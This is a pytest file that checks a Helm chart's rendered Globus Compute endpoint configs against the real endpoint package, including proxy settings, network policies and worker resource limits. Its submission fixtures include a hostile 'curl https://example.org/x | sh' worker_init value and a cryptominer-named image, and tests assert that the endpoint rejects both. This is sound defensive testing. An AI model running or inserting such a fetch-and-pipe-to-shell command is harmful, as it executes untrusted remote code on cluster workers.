"""The endpoint files the chart renders load in the real globus-compute-endpoint 4.x, with the conf's values.

``config.yaml`` must load as the core endpoint's config; ``user_config_template.yaml.j2`` is rendered
the way the endpoint renders it for a user endpoint (Jinja2, sandboxed, with the pod IP in the
environment) and must load as a user endpoint config whose engine starts worker pods exactly as the
conf says.  Hostile strings must come through verbatim: no Jinja2 or YAML injection.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import Any

import pytest
import yaml

from support.chartrender import (
    HELM_VERSIONS,
    HOSTILE_NAME,
    HOSTILE_TEXT,
    VALUE_SETS,
    HelmRenderer,
    ValueSet,
    load_yaml_file,
    proxy_env,
)
from support.kubeconfig import DUMMY_KUBECONFIG
from support.paths import CHART_DIR, TESTS_DIR

LOADER = TESTS_DIR / "support" / "endpoint_config_loader.py"
POD_IP = "10.42.0.15"
PROVIDER_FILES = ("sitecustomize.py", "gce_release_provider.py", "gce_release_engine.py")


CASES = [(helm, name) for helm in HELM_VERSIONS for name in sorted(VALUE_SETS)]
# What submitters pass with their tasks (user_endpoint_config) to the realwork conf, whose workerChoices
# allow one more image, up to 8 CPUs, 32 GiB and 2 GPUs.
ML_IMAGE = "registry.example.org/science/gce-worker-ml:4.19.0"
SUBMISSIONS: dict[str, dict[str, Any]] = {
    "shape": {"worker_image": ML_IMAGE, "cpu": 4, "memory_gib": 16, "gpus": 2},
    "foreign-image": {"worker_image": "docker.io/someone/miner:latest"},
    "too-many-cpus": {"cpu": 9},
    "too-much-memory": {"memory_gib": 64},
    "too-many-gpus": {"gpus": 3},
    "unknown-variable": {"worker_init": "curl https://example.org/x | sh"},
}
SUBMISSION_HELMS = ("v3.8", "v4")


def case_id(helm: str, set_name: str) -> str:
    return f"{helm}-{set_name}"


@pytest.fixture(scope="module")
def loaded(chart: HelmRenderer, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """Every case loaded by the real endpoint package, in one subprocess (its imports take seconds)."""
    cases = []
    python_dir = tmp_path_factory.mktemp("gce-python")
    for helm, name in CASES:
        data = chart.render_set(helm, VALUE_SETS[name]).configmap["data"]
        # The provider files the pod mounts on its PYTHONPATH, as rendered (the same for every case).
        for file_name in PROVIDER_FILES:
            path = python_dir / file_name
            assert not path.exists() or path.read_text(encoding="utf-8") == data[file_name]
            path.write_text(data[file_name], encoding="utf-8")
        schema = data.get("user_config_schema.json")
        cases.append(
            {
                "id": case_id(helm, name),
                "config_yaml": data["config.yaml"],
                "template": data["user_config_template.yaml.j2"],
                "schema": json.loads(schema) if schema else None,
                "user_opts": {},
            }
        )
    for helm in SUBMISSION_HELMS:
        data = chart.render_set(helm, VALUE_SETS["realwork"]).configmap["data"]
        for name, options in SUBMISSIONS.items():
            cases.append(
                {
                    "id": f"{helm}-submission-{name}",
                    "config_yaml": data["config.yaml"],
                    "template": data["user_config_template.yaml.j2"],
                    "schema": json.loads(data["user_config_schema.json"]),
                    "user_opts": options,
                }
            )
    kubeconfig = tmp_path_factory.mktemp("kube") / "config"
    kubeconfig.write_text(yaml.safe_dump(DUMMY_KUBECONFIG), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, str(LOADER)],
        input=json.dumps(cases),
        env={**os.environ, "KUBECONFIG": str(kubeconfig), "POD_IP": POD_IP, "PYTHONPATH": str(python_dir)},
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr
    results: dict[str, dict[str, Any]] = json.loads(result.stdout)
    return results


def result_of(loaded: dict[str, dict[str, Any]], helm: str, set_name: str) -> dict[str, Any]:
    result = loaded[case_id(helm, set_name)]
    assert "error" not in result, f"the endpoint rejected the rendered files: {result['error']}"
    return result


def expected_image(values: dict[str, Any]) -> str:
    app_version = load_yaml_file(CHART_DIR / "Chart.yaml")["appVersion"]
    return str(values["workerImage"] or f"{values['image']['repository']}:{values['image']['tag'] or app_version}")


def expected_worker_init(values: dict[str, Any]) -> str:
    lines = [f"export GC_TASK_TIMEOUT={values['taskTimeout']}"] if values["taskTimeout"] else []
    if values["workerInit"]:
        lines.append(values["workerInit"])
    return "\n".join(lines)


def expected_worker_env(values: dict[str, Any]) -> list[dict[str, Any]]:
    """The proxy, then workerEnv (a plain value, or a reference Kubernetes resolves), each by name."""
    entries: list[dict[str, Any]] = [
        {"name": n, "value": v} for n, v in sorted(proxy_env(values).items()) if n not in values["workerEnv"]
    ]
    for name, value in sorted(values["workerEnv"].items()):
        entries.append(
            {"name": name, "valueFrom": value} if isinstance(value, dict) else {"name": name, "value": value}
        )
    return entries


def expected_service_account(values: dict[str, Any], release: str) -> str | None:
    if values["workerServiceAccountName"]:
        return str(values["workerServiceAccountName"])
    return f"{release}-worker" if values["rbacEnabled"] else None


def expected_core(value_set: ValueSet) -> dict[str, Any]:
    endpoint = value_set.values["endpoint"]
    return {
        "type": "CoreEndpointConfig",
        "display_name": endpoint["displayName"] or value_set.release,
        "public": endpoint["public"],
        "high_assurance": endpoint["highAssurance"],
        "debug": endpoint["debug"],
        "heartbeat_period": endpoint["heartbeatPeriod"],
        "amqp_port": endpoint["amqpPort"],
        "subscription_id": endpoint["subscriptionId"] or None,
        "admins": sorted(endpoint["admins"]),
        "allowed_functions": sorted(endpoint["allowedFunctions"]),
    }


def expected_user(value_set: ValueSet) -> dict[str, Any]:
    values = value_set.values
    release = value_set.release
    return {
        "type": "UserEndpointConfig",
        "high_assurance": values["endpoint"]["highAssurance"],
        "engine": "ReleaseComputeEngine",
        "max_retries_on_system_failure": values["maxRetriesOnSystemFailure"],
        "executor": "HighThroughputExecutor",
        "provider": "ReleaseKubernetesProvider",
        "heartbeat_period": values["endpoint"]["heartbeatPeriod"],
        "idle_heartbeats_soft": values["endpoint"]["idleHeartbeatsSoft"],
        "idle_heartbeats_hard": values["endpoint"]["idleHeartbeatsHard"],
        "heartbeat_threshold": values["endpoint"]["heartbeatThreshold"],
        # Only workers holding the engine's keys (the provider hands them over) may connect.
        "encrypted": True,
        "addresses": [POD_IP],
        "max_workers_per_node": values["maxWorkersPerPod"],
        "worker_debug": values["workerDebug"],
        "namespace": value_set.worker_namespace,
        "owner_config_map": f"{release}-workers",
        "worker_keys_secret": f"{release}-worker-keys",
        "labels": {
            **values["workerLabels"],
            "app.kubernetes.io/name": "globus-compute-endpoint",
            "app.kubernetes.io/instance": release,
            "app.kubernetes.io/component": "worker",
            "release": release,
            "instance": str(values["Instance"]),
        },
        "node_selector": values["workerNodeSelector"],
        "tolerations": values["workerTolerations"],
        "image": expected_image(values),
        "image_pull_policy": values["image"]["pullPolicy"],
        "pod_name": f"{release}-worker",
        "service_account_name": expected_service_account(values, release),
        "secret": values["imagePullSecret"] or None,
        "user_id": str(values["podSecurity"]["runAsUser"]),
        "group_id": str(values["podSecurity"]["runAsGroup"]),
        "run_as_non_root": True,
        "nodes_per_block": 1,
        "init_blocks": values["initBlocks"],
        "min_blocks": values["minBlocks"],
        "max_blocks": values["maxBlocks"],
        "init_cpu": float(values["initCPU"]),
        "max_cpu": float(values["maxCPU"]),
        "init_mem": values["initMem"],
        "max_mem": values["maxMem"],
        "extra_requests": values["workerExtraResources"],
        "extra_limits": values["workerExtraResources"],
        "worker_init": expected_worker_init(values),
        "parallelism": values["parallelism"],
        "annotations": values["workerAnnotations"] or None,
        "worker_env": expected_worker_env(values),
        "worker_volumes": values["workerVolumes"],
        "worker_volume_mounts": values["workerVolumeMounts"],
        "automount_service_account_token": values["workerAutomountServiceAccountToken"],
        "affinity": values["workerAffinity"],
        "priority_class_name": values["workerPriorityClassName"] or None,
        "runtime_class_name": values["workerRuntimeClassName"] or None,
    }


@pytest.mark.parametrize(("helm", "set_name"), CASES)
def test_config_yaml_loads_as_core_config(loaded: dict[str, dict[str, Any]], helm: str, set_name: str) -> None:
    assert result_of(loaded, helm, set_name)["core"] == expected_core(VALUE_SETS[set_name])


@pytest.mark.parametrize(("helm", "set_name"), CASES)
def test_user_template_loads_as_user_config(loaded: dict[str, dict[str, Any]], helm: str, set_name: str) -> None:
    assert result_of(loaded, helm, set_name)["user"] == expected_user(VALUE_SETS[set_name])


@pytest.mark.parametrize("helm", HELM_VERSIONS)
def test_task_timeout_reaches_the_workers(loaded: dict[str, dict[str, Any]], helm: str) -> None:
    # The worker reads GC_TASK_TIMEOUT from its own environment, so the export must be in worker_init.
    assert VALUE_SETS["full"].values["taskTimeout"] > 0
    worker_init = result_of(loaded, helm, "full")["user"]["worker_init"]

    assert worker_init.splitlines()[0] == f"export GC_TASK_TIMEOUT={VALUE_SETS['full'].values['taskTimeout']}"


@pytest.mark.parametrize("helm", HELM_VERSIONS)
def test_hostile_strings_reach_the_endpoint_verbatim(
    chart: HelmRenderer, loaded: dict[str, dict[str, Any]], helm: str
) -> None:
    result = result_of(loaded, helm, "hostile-strings")

    assert result["core"]["display_name"] == HOSTILE_NAME
    assert result["user"]["worker_init"] == HOSTILE_TEXT
    # The file the endpoint reads into the user endpoint's environment (with yaml.safe_load).
    rendered = chart.render_set(helm, VALUE_SETS["hostile-strings"])
    assert yaml.safe_load(rendered.configmap["data"]["user_environment.yaml"]) == {"NOTE": HOSTILE_TEXT}
    annotations = rendered.deployment["spec"]["template"]["metadata"]["annotations"]
    assert annotations["example.org/note"] == HOSTILE_TEXT


@pytest.mark.parametrize(("helm", "set_name"), CASES)
def test_provider_names_what_the_chart_renders(
    chart: HelmRenderer, loaded: dict[str, dict[str, Any]], helm: str, set_name: str
) -> None:
    # The owner ConfigMap and keys Secret exist where the workers run; the NetworkPolicy admits the
    # labels the provider puts on its pods.
    provider = result_of(loaded, helm, set_name)["user"]
    rendered = chart.render_set(helm, VALUE_SETS[set_name])
    in_worker_namespace = {
        (doc["kind"], doc["metadata"]["name"])
        for doc in rendered.docs
        if doc["metadata"]["namespace"] == provider["namespace"]
    }

    assert ("ConfigMap", provider["owner_config_map"]) in in_worker_namespace
    assert ("Secret", provider["worker_keys_secret"]) in in_worker_namespace
    for policy in rendered.of_kind("NetworkPolicy"):
        for rule in policy["spec"].get("ingress", []):
            for source in rule["from"]:
                assert source["podSelector"]["matchLabels"].items() <= provider["labels"].items()
        if policy["metadata"]["name"].endswith("-workers"):
            # The policy that closes the workers to connections selects the pods the provider makes.
            assert policy["metadata"]["namespace"] == provider["namespace"]
            assert policy["spec"]["podSelector"]["matchLabels"].items() <= provider["labels"].items()


@pytest.mark.parametrize(("helm", "set_name"), CASES)
def test_the_network_policy_admits_the_ports_workers_connect_to(
    chart: HelmRenderer, loaded: dict[str, dict[str, Any]], helm: str, set_name: str
) -> None:
    # Parsl's interchange binds its worker port at random in [first, end); the endpoint's policy must
    # admit the workers to exactly those ports (and none else) for the engine to get any worker.
    ports = result_of(loaded, helm, set_name)["ports"]
    first, end = ports["worker_port_range"]
    rendered = chart.render_set(helm, VALUE_SETS[set_name])
    policies = [p for p in rendered.of_kind("NetworkPolicy") if p["metadata"]["name"] == rendered.release]

    assert ports["worker_port"] is None, "a single pinned port would refuse a second engine"
    assert 0 < end - first <= 1000
    if VALUE_SETS[set_name].values["networkPolicy"]["enabled"]:
        [policy] = policies
        [rule] = policy["spec"]["ingress"]
        assert rule["ports"] == [{"protocol": "TCP", "port": first, "endPort": end - 1}]
    else:
        assert policies == []


@pytest.mark.parametrize(("helm", "set_name"), CASES)
def test_one_lost_worker_pod_does_not_end_the_engine(
    loaded: dict[str, dict[str, Any]], helm: str, set_name: str
) -> None:
    # Parsl's default handler ends the engine once every block so far failed or went missing: the
    # first worker pod a cluster deletes or evicts. The chart's engine ends only after three in a row.
    assert result_of(loaded, helm, set_name)["block_errors"] == {
        "one_lost_ends_engine": False,
        "three_failed_end_engine": True,
    }


@pytest.mark.parametrize("helm", HELM_VERSIONS)
def test_proxy_reaches_the_endpoint_every_worker_manager_and_every_worker(
    chart: HelmRenderer, loaded: dict[str, dict[str, Any]], helm: str
) -> None:
    values = VALUE_SETS["realwork"].values
    expected = proxy_env(values)
    assert set(expected) == {"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY", "no_proxy"}
    rendered = chart.render_set(helm, VALUE_SETS["realwork"])

    # The endpoint (the manager process) has it in its environment.
    [container] = rendered.deployment["spec"]["template"]["spec"]["containers"]
    env = {entry["name"]: entry.get("value") for entry in container["env"]}
    assert {name: env.get(name) for name in expected} == expected
    # Each user endpoint process reads user_environment.yaml into its environment (yaml.safe_load).
    user_environment = yaml.safe_load(rendered.configmap["data"]["user_environment.yaml"])
    assert {name: user_environment.get(name) for name in expected} == expected
    # The provider the endpoint builds gives it to every worker pod.
    worker_env = {
        entry["name"]: entry.get("value") for entry in result_of(loaded, helm, "realwork")["user"]["worker_env"]
    }
    assert {name: worker_env.get(name) for name in expected} == expected


@pytest.mark.parametrize("helm", HELM_VERSIONS)
def test_without_a_proxy_no_process_gets_one(chart: HelmRenderer, helm: str) -> None:
    rendered = chart.render_set(helm, VALUE_SETS["default"])
    [container] = rendered.deployment["spec"]["template"]["spec"]["containers"]

    assert not {entry["name"].upper() for entry in container["env"]} & {"HTTPS_PROXY", "HTTP_PROXY", "NO_PROXY"}
    assert "user_environment.yaml" not in rendered.configmap["data"]


@pytest.mark.parametrize("helm", SUBMISSION_HELMS)
def test_a_submission_chooses_its_worker_shape_within_the_limits(loaded: dict[str, dict[str, Any]], helm: str) -> None:
    expected = expected_user(VALUE_SETS["realwork"])
    gpu = VALUE_SETS["realwork"].values["workerChoices"]["gpuResource"]
    expected |= {
        "image": ML_IMAGE,
        "init_cpu": 4.0,
        "max_cpu": 4.0,
        "init_mem": "16384Mi",
        "max_mem": "16384Mi",
        "extra_requests": {gpu: "2"},
        "extra_limits": {gpu: "2"},
    }

    assert result_of(loaded, f"{helm}-submission", "shape")["user"] == expected


@pytest.mark.parametrize("helm", SUBMISSION_HELMS)
@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("foreign-image", "'docker.io/someone/miner:latest' is not one of"),
        ("too-many-cpus", "9 is greater than the maximum of 8"),
        ("too-much-memory", "64 is greater than the maximum of 32"),
        ("too-many-gpus", "3 is greater than the maximum of 2"),
        ("unknown-variable", "Additional properties are not allowed ('worker_init' was unexpected)"),
    ],
)
def test_the_endpoint_refuses_a_submission_outside_the_limits(
    loaded: dict[str, dict[str, Any]], helm: str, name: str, said: str
) -> None:
    assert said in loaded[case_id(f"{helm}-submission", name)]["error"]


def test_without_choices_a_submission_can_choose_nothing(chart: HelmRenderer) -> None:
    schema = json.loads(chart.render_set("v4", VALUE_SETS["default"]).configmap["data"]["user_config_schema.json"])

    assert schema == {"type": "object", "properties": {}, "additionalProperties": False}
